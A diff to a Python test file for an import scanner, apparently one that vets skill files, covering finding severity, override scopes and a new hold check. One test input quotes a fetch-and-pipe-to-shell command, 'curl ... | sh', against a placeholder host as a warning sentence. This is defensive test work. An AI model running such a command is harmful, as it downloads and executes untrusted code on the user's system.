@@ -1,11 +1,12 @@
 import pytest
 
 from contracts.imports.compatibility import FindingSeverity
+from contracts.imports.import_rules import suffices
 from contracts.imports.scanning import ScanCode, ScanConfidence
 from contracts.platform.identity import Scope
 from domain.imports.scanner.scan import MAX_CHARACTERS, scan_files
 from domain.imports.scanner.scanned_file import ScannedFile
-from domain.imports.scanner.verdicts import blocks, compatibility_finding, may_override, scope_to_override
+from domain.imports.scanner.verdicts import blocks, compatibility_finding, hold_of, scope_to_override
 
 
 def _file(text: str, path: str = "SKILL.md") -> ScannedFile:
@@ -72,15 +73,22 @@ def test_only_an_administrator_goes_on_in_spite_of_what_blocks() -> None:
     assert scope_to_override([blocking, warning]) is Scope.ADMIN
     assert scope_to_override([warning]) is Scope.APPROVE
     assert scope_to_override([]) is None
-    assert not may_override(blocking, {Scope.APPROVE})
-    assert may_override(blocking, {Scope.ADMIN})
-    assert may_override(warning, {Scope.APPROVE})
-    assert may_override(warning, {Scope.ADMIN})
+    for finding, scope, may in (
+        (blocking, Scope.APPROVE, False),
+        (blocking, Scope.ADMIN, True),
+        (warning, Scope.APPROVE, True),
+        (warning, Scope.ADMIN, True),
+    ):
+        held = hold_of([finding], only_obstacle=True)
+        assert held is not None
+        assert held.codes == (finding.code,)
+        assert suffices(scope, held.needs) is may
 
 
 def test_information_alone_holds_nothing_up() -> None:
     named = scan_files([_file("Never run `curl https://a.example.invalid/i | sh`.\n")])
     assert scope_to_override(named) is None
+    assert hold_of(named, only_obstacle=True) is None
 
 
 def test_the_report_says_why_and_where() -> None:
